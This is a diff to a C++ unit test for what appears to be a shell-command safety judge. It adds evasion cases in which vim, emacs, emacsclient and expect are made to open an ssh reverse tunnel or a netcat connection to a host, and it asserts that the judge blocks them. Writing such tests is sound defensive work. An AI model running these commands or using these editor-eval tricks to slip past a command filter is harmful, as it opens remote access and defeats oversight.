@@ -483,15 +483,21 @@ TEST_F(EvasionTest, CommandsInEditorsSettingsAndVariablesAreAnalyzed) {
     Verdict v = Judge(command);
     EXPECT_EQ(v.action, Action::kTerminate) << command << " -> " << v.reason;
   }
-  // Editor commands that evaluate strings: not analyzable.
+  // Editor commands that evaluate strings, Lisp or expect code that starts a
+  // program: not analyzable.
   for (const char* command : {"vim -c ':call system(\"ssh -R 1:localhost:22 h\")'",
-                              "vim -c 'exe \"!\" . g:c'"})
+                              "vim -c 'exe \"!\" . g:c'",
+                              "emacs --batch --eval '(shell-command \"ssh -R 1:localhost:22 h\")'",
+                              "emacsclient -e '(call-process \"nc\" nil nil nil \"h\" \"4444\")'",
+                              "expect -c 'spawn ssh -R 1:localhost:22 h; interact'"})
     EXPECT_GE(Judge(command).action, Action::kBlock) << command;
   ExpectAllowed({"vim -c ':wq' notes.txt", "vim +10 main.py", "vim -c 'set nu' -c ':w!' x.py",
                  "vim -c 'r !ls' notes.txt", "less +F app.log", "git -c core.pager=cat log",
                  "git -c color.ui=always diff", "git config user.email a@b.c",
                  "git config --global alias.st status", "GIT_PAGER=cat git log",
-                 "EDITOR=vim git commit", "export EDITOR=nano"});
+                 "EDITOR=vim git commit", "export EDITOR=nano", "emacs -nw main.py",
+                 "emacs --batch -l init.el --eval '(org-babel-tangle)'",
+                 "expect -c 'set timeout 5'"});
 }
 
 // A file the same command writes and then runs is judged by its content:
